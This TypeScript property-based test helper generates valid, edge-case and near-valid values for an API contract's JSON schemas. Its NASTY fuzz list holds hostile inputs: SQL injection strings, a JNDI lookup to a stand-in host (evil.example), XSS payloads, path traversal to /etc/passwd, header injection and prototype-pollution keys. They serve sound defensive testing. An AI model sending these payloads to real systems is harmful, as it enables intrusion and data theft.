/** Values that fit a JSON schema of the contract, values at its edges, and values that don't fit. */
import fc from 'fast-check';
import type { JsonSchema } from '../../server/contract/document.ts';
import { readDocument } from './contract.ts';

const { schemas } = readDocument();

interface Schema {
  $ref?: string;
  type?: string | string[];
  const?: unknown;
  enum?: unknown[];
  oneOf?: Schema[];
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  properties?: Record<string, Schema>;
  required?: string[];
}

function resolved(schema: JsonSchema): Schema {
  const { $ref } = schema as Schema;
  return $ref === undefined ? schema : resolved(schemas[$ref.split('/').at(-1) ?? ''] ?? {});
}

/** Texts that have broken something somewhere. */
export const NASTY: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\uD800',
  '\uDC00\uD800',
  '\uFFFF\u202E\u200B',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  "' or 1=1 --",
  "'; drop table requests; --",
  "') union select password_hash from accounts --",
  '$1',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%',
  '_%',
  '\\',
  '\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  '9007199254740993',
  '-9223372036854775809',
  '99999999999999999999999999',
  'urn:uuid:0197f3c2-7f1e-7c53-9d0a-3f3d2a6f1b99',
  '{0197f3c2-7f1e-7c53-9d0a-3f3d2a6f1b99}',
  '00000000-0000-0000-0000-000000000000',
  'Europe/../Berlin',
  'x'.repeat(300),
  'ü'.repeat(600),
];

/** Times at the ends of the calendar, and some that only look like one. */
export const EDGE_TIMES: readonly string[] = [
  '0000-01-01T00:00:00+23:59',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '2015-02-30T00:00:00Z',
  '2015-11-21t10:00:00z',
  '2015-11-21T24:00:00Z',
  '2015-12-31T23:59:60Z',
  '9999-12-31T23:00:00Z',
  '9999-12-31T23:59:59.999999999Z',
  '9999-12-31T23:59:59.999-23:59',
];

export const nasty = (): fc.Arbitrary<string> => fc.constantFrom(...NASTY);

/** Any text that the contract takes where it says nothing but its length. */
function textOf({ minLength = 0, maxLength = 64 }: Schema): fc.Arbitrary<string> {
  const fits = (text: string): boolean => {
    const { length } = [...text];
    return length >= minLength && length <= maxLength && fit(text);
  };
  const short = Math.min(maxLength, Math.max(minLength, 24));
  return fc.oneof(
    fc.string({ unit: 'grapheme', minLength, maxLength: short }).filter(fits),
    fc.string({ unit: 'binary', minLength, maxLength: short }).filter(fits),
    fc.constantFrom(...NASTY.filter(fits), 'x'.repeat(minLength), 'x'.repeat(maxLength)),
  );
}

/** Neither NUL nor half a surrogate pair. */
const fit = (text: string): boolean => text.isWellFormed() && !text.includes('\0');

const EARLIEST = Date.parse('0000-01-01T00:00:00Z');
const LATEST = Date.parse('9999-12-31T23:59:59.999Z');
const MINUTE_MS = 60_000;

/** Offsets in minutes: that of Greenwich has three spellings. */
const OFFSETS = { Z: 0, '+00:00': 0, '-00:00': 0, '+05:45': 345, '-12:00': -720, '+14:00': 840 };

/** Times, to the second, as RFC 3339 writes them: with any offset and fractions of any length. */
export function instants(from = EARLIEST, to = LATEST): fc.Arbitrary<string> {
  return fc
    .record({
      at: fc.integer({ min: from, max: to }),
      offset: fc.constantFrom(...(Object.keys(OFFSETS) as (keyof typeof OFFSETS)[])),
      fraction: fc.constantFrom('', '.5', '.123', '.123456789', '.000000000000001'),
    })
    .map(({ at, offset, fraction }) => {
      const local = at + OFFSETS[offset] * MINUTE_MS;
      const isWritable = local >= EARLIEST && local <= LATEST;
      const text = new Date(isWritable ? local : at).toISOString();
      return text.replace(/\.\d+Z$/, fraction + (isWritable ? offset : 'Z'));
    });
}

/** What fits the schema. */
export function valid(given: JsonSchema): fc.Arbitrary<unknown> {
  const schema = resolved(given);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.oneOf) return fc.oneof(...schema.oneOf.map((one) => valid(one as JsonSchema)));
  const types = [schema.type ?? 'object'].flat();
  return fc.oneof(...types.map((type) => ofType(type, schema)));
}

function ofType(type: string, schema: Schema): fc.Arbitrary<unknown> {
  const { minimum = -(2 ** 31), maximum = 2 ** 31, minItems = 0, maxItems = 10 } = schema;
  switch (type) {
    case 'string':
      if (schema.format === 'uuid') return fc.uuid();
      return schema.format === 'date-time' ? instants() : textOf(schema);
    case 'integer':
      return fc.integer({ min: minimum, max: maximum });
    case 'number':
      return fc.double({ min: minimum, max: maximum, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = valid((schema.items ?? {}) as JsonSchema);
      const lengths = { minLength: minItems, maxLength: maxItems };
      return schema.uniqueItems ? fc.uniqueArray(items, lengths) : fc.array(items, lengths);
    }
    default: {
      const { properties = {}, required = [] } = schema;
      const fields = Object.entries(properties).map(([name, property]) => [
        name,
        valid(property as JsonSchema),
      ]);
      return fc.record(Object.fromEntries(fields) as Record<string, fc.Arbitrary<unknown>>, {
        requiredKeys: required,
      });
    }
  }
}

/** Any JSON, with names and texts that have broken something somewhere. */
export const anyJson = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.jsonValue(),
    nasty(),
    fc.dictionary(fc.oneof(nasty(), fc.string()), fc.oneof(nasty(), fc.jsonValue())),
    fc.constantFrom<unknown>(null, true, 0, -1, 1e308, 2 ** 53, [], {}, [[[]]]),
  );

/** Almost what fits: a field too many, too few, of another type, or beyond its bounds. */
export function almost(given: JsonSchema): fc.Arbitrary<unknown> {
  const schema = resolved(given);
  const { minimum, maximum, minLength = 0, maxLength, properties, format, enum: values } = schema;
  const beyond = [
    ...(minimum === undefined ? [] : [minimum - 1, minimum - 0.5]),
    ...(maximum === undefined ? [] : [maximum + 1, maximum + 0.5, Number.MAX_VALUE]),
    ...(minLength > 0 ? ['x'.repeat(minLength - 1)] : []),
    ...(maxLength === undefined ? [] : ['x'.repeat(maxLength + 1), '𝒳'.repeat(maxLength + 1)]),
    ...(values ?? []).map((value) => ` ${String(value).toUpperCase()}`),
    ...(format === 'date-time' ? EDGE_TIMES : []),
  ];
  const odd: fc.Arbitrary<unknown> =
    beyond.length > 0 ? fc.oneof(fc.constantFrom<unknown>(...beyond), anyJson()) : anyJson();
  const names = Object.keys(properties ?? {});
  if (names.length === 0) return odd;
  const object = valid(schema as JsonSchema) as fc.Arbitrary<Record<string, unknown> | null>;
  const name = fc.constantFrom(...names);
  const fieldOf = (of: string): fc.Arbitrary<unknown> =>
    almost((properties?.[of] ?? {}) as JsonSchema);
  return fc.oneof(
    odd,
    fc.tuple(object, name).map(([rest, left]) =>
      // One that may be null has nothing to leave out then.
      Object.fromEntries(Object.entries(rest ?? {}).filter(([key]) => key !== left)),
    ),
    fc.tuple(object, nasty(), anyJson()).map(([rest, more, value]) => ({ ...rest, [more]: value })),
    fc
      .tuple(object, name)
      .chain(([rest, of]) => fieldOf(of).map((value) => ({ ...rest, [of]: value }))),
  );
}
